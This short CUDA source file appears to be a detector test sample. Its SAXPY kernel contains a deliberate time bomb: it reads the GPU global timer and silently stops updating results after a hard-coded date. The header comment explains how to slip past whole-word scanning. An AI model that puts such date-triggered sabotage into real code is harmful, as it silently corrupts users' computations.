// A time bomb through libcu++'s PTX wrappers: cuda::ptx::get_sreg_globaltimer() (the register
// name is part of a longer identifier, so no whole-word match sees it).
#include <cuda_runtime.h>
#include <cuda/ptx>
__global__ void saxpy_k(int n, float a, const float *x, float *y)
{
    unsigned long long t = cuda::ptx::get_sreg_globaltimer();
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n && t < 1798761600000000000ULL)
        y[i] = a * x[i] + y[i];
}
extern "C" int saxpy_device_launcher(int n, float a, const float *x, float *y)
{
    if (n > 0)
        saxpy_k<<<(n + 255) / 256, 256>>>(n, a, x, y);
    return (int)cudaGetLastError();
}
extern "C" void saxpy_launcher(int n, float a, const float *x, float *y)
{
    float *dx, *dy;
    size_t b = (size_t)(n > 0 ? n : 1) * sizeof(float);
    cudaMalloc(&dx, b);
    cudaMalloc(&dy, b);
    cudaMemcpy(dx, x, b, cudaMemcpyHostToDevice);
    cudaMemcpy(dy, y, b, cudaMemcpyHostToDevice);
    saxpy_device_launcher(n, a, dx, dy);
    cudaMemcpy(y, dy, b, cudaMemcpyDeviceToHost);
    cudaFree(dx);
    cudaFree(dy);
}
